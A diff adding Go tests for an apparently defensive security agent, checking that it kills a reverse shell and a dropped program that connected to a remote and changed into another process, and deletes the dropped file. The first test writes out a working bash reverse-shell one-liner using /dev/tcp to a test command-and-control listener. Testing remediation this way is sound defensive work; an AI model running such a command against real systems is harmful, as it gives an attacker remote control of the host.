@@ -1,0 +1,37 @@
+package agent
+
+import (
+	"fmt"
+	"os"
+	"testing"
+)
+
+func TestReverseShellIsStopped(t *testing.T) {
+	a := newAgent(t, testConfig(t))
+	remote := c2(t)
+	launch(t, "/bin/bash", "-c", fmt.Sprintf("exec bash --norc -i >& /dev/tcp/%s/%d 0>&1", remote.Addr(), remote.Port()))
+	t.Cleanup(func() { killAll(t, "bash --norc -i") })
+	connected(t, a, remote)
+	eventually(t, "the shell runs", func() bool { return len(running(t, "--norc -i")) == 1 })
+	wantDone(t, a.Execute(t.Context(), task("shell", cleanTask, remote)))
+	if left := running(t, "--norc -i"); len(left) != 0 {
+		t.Errorf("still running: %v", left)
+	}
+}
+
+func TestProgramThatConnectedAndBecameAnother(t *testing.T) {
+	a := newAgent(t, testConfig(t))
+	dir, remote := dropDir(t), c2(t)
+	exe := drop(t, dir+"/job")
+	launch(t, exe, "-connect", remote.String(), "-become", "/bin/sleep")
+	t.Cleanup(func() { killAll(t, "100321") })
+	connected(t, a, remote)
+	eventually(t, "it is another program", func() bool { return len(running(t, "100321")) == 1 })
+	wantDone(t, a.Execute(t.Context(), task("became", cleanTask, remote)))
+	if left := running(t, "100321"); len(left) != 0 {
+		t.Errorf("still running: %v", left)
+	}
+	if _, err := os.Lstat(exe); !os.IsNotExist(err) {
+		t.Errorf("the executable is still there: %v", err)
+	}
+}
